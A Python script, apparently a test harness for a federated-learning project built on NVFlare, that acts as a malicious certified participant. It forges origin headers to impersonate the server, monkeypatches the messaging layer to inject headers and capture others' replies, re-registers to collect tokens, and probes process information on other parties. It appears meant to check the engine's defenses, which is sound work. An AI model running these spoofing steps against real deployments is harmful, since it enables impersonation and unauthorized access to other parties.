"""A malicious party with a valid certificate that uses the engine's protocol to impersonate the server or reach others.

Run as `python dishonest.py HOME NAME ADDRESS TARGET STUDY` it registers, also as what it is not, and sends the target
calls that claim to come from the server. As `python dishonest.py HOME NAME ADDRESS SECONDS` it only tries to connect,
which is enough to receive messages. It prints the replies as JSON.
"""

import json
import os
import sys
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

from syndic.kernel import Call, Nothing, encode
from syndic.runtime.flare.parts import CHANNEL, Push

CALL = "evil"
# long enough for a loaded machine; where the engine drops a message without a word there is nothing to wait for
_ANSWER_SECONDS = 60.0
_SILENCE_SECONDS = 2.0
_FEDERATION = "health"


def _connected(startup: Path, name: str, address: str) -> Any:
    from nvflare.app_common.decomposers import common_decomposers  # noqa: PLC0415
    from nvflare.fuel.f3.cellnet.cell import Cell  # noqa: PLC0415
    from nvflare.private.fed.utils.fed_utils import fobs_initialize  # noqa: PLC0415

    fobs_initialize()
    common_decomposers.register()
    files = {"ca_cert": "rootCA.pem", "client_cert": "client.crt", "client_key": "client.key"}
    cell = Cell(
        fqcn=name,
        root_url=f"grpc://{address}",
        secure=True,
        credentials={**{key: str(startup / file) for key, file in files.items()}, "connection_security": "mtls"},
        create_internal_listener=False,
        auth_identity=name,
        auth_identity_map={"server": "syndic-server"},
    )
    cell.start()
    return cell


def _registered(cell: Any, startup: Path, name: str, kind: str) -> dict[str, str]:
    """Return the headers that the server gave for this registration."""
    from nvflare.apis.fl_context import FLContext  # noqa: PLC0415
    from nvflare.apis.signal import Signal  # noqa: PLC0415
    from nvflare.private.defs import CellMessageHeaderKeys as Keys  # noqa: PLC0415
    from nvflare.private.fed.authenticator import Authenticator  # noqa: PLC0415

    answered = Authenticator(
        cell=cell,
        project_name=_FEDERATION,
        client_name=name,
        client_type=kind,
        expected_sp_identity="syndic-server",
        secure_mode=True,
        root_cert_file=str(startup / "rootCA.pem"),
        private_key_file=str(startup / "client.key"),
        cert_file=str(startup / "client.crt"),
        msg_timeout=_ANSWER_SECONDS,
        retry_interval=0.2,
        timeout=_ANSWER_SECONDS,
    ).authenticate(FLContext(), Signal())
    token, signature, session, _ = answered
    return {Keys.CLIENT_NAME: name, Keys.TOKEN: token, Keys.TOKEN_SIGNATURE: signature, Keys.SSID: session}


def _asker(cell: Any) -> Callable[..., str]:
    """Return what sends a request under headers of our choice and tells what came back."""
    from nvflare.fuel.f3.cellnet.defs import MessageHeaderKey, MessageType  # noqa: PLC0415
    from nvflare.fuel.f3.message import Message  # noqa: PLC0415

    core = cell.core_cell
    honest, pass_on = core._send_to_endpoint, core._forward
    forged: dict[str, str] = {}

    def send(to_endpoint: Any, message: Any, *more: Any, **options: Any) -> Any:
        message.add_headers(forged)
        return honest(to_endpoint, message, *more, **options)

    def heard(endpoint: Any, origin: str, destination: str, kind: str, message: Any) -> None:
        # what comes back is for the one whose name was taken: it is here all the same
        if kind == MessageType.RETURN:
            core._process_reply(origin, message, kind)
        else:
            pass_on(endpoint, origin, destination, kind, message)

    core._send_to_endpoint, core._forward = send, heard

    def ask(
        headers: dict[str, str], origin: str, where: tuple[str, str], target: str, payload: Any, seconds: float
    ) -> str:
        forged.clear()
        forged.update({**headers, MessageHeaderKey.ORIGIN: origin})
        reply = core.send_request(
            channel=where[0],
            topic=where[1],
            target=target,
            request=Message({}, payload),
            timeout=seconds,
            optional=True,
        )
        forged.clear()
        code = reply.get_header(MessageHeaderKey.RETURN_CODE)
        return f"{code} {'with an answer' if reply.payload else ''}".strip()

    return ask


def main(home: str, name: str, address: str, *aim: str) -> None:
    """Try everything, and print what came back."""
    startup = Path(home) / "flare" / "startup"
    cell = _connected(startup, name, address)
    told = {"greeted": _greeted(cell, name, float(aim[0]))} if len(aim) == 1 else _attack(cell, startup, name, *aim)
    sys.stdout.write("\n" + json.dumps(told) + "\n")
    sys.stdout.flush()
    os._exit(0)


def _greeted(cell: Any, name: str, seconds: float) -> str:
    """Ask for the engine's challenge: whoever is connected is answered, before it has shown anything."""
    ask, end = _asker(cell), time.monotonic() + seconds
    while True:
        code = ask({"cn": name, "nonce": "any"}, name, ("task", "challenge"), "server", None, seconds)
        if code.startswith("ok") or time.monotonic() > end:
            return code
        time.sleep(0.5)


def _attack(cell: Any, startup: Path, name: str, target: str, study: str) -> dict[str, str]:
    told = {}
    try:
        relay = _registered(cell, startup, name, "relay")
        told["registered as a relay"] = "accepted"
    except Exception as error:
        # the engine raises what it likes
        relay, told["registered as a relay"] = None, f"{error}: {error.__context__}"
    older = _registered(cell, startup, name, "regular")
    newer = _registered(cell, startup, name, "regular")
    ask = _asker(cell)
    call = encode(Call(study=study, party=target, step="ready", call=CALL, body=encode(Nothing())))
    push = encode(Push(study=study, transfer="forged", total=len(call), offset=0, body=call, seconds=1.0))
    for what, token in (("relay", relay), ("older", older), ("newer", newer)):
        for origin in (name, "server", "server.more"):
            if token is not None:
                # the engine compares the token that it gave last with the name, and drops the message
                patience = _SILENCE_SECONDS if what == "newer" and origin != name else _ANSWER_SECONDS
                told[f"push, {what} token, from {origin}"] = ask(
                    token, origin, (CHANNEL, "push"), target, push, patience
                )
    for place in (target, "server"):
        look = ("_net_manager", "process_info")
        told[f"looks into {place}"] = ask(newer, name, look, place, None, _ANSWER_SECONDS)
    return told


if __name__ == "__main__":
    main(*sys.argv[1:])
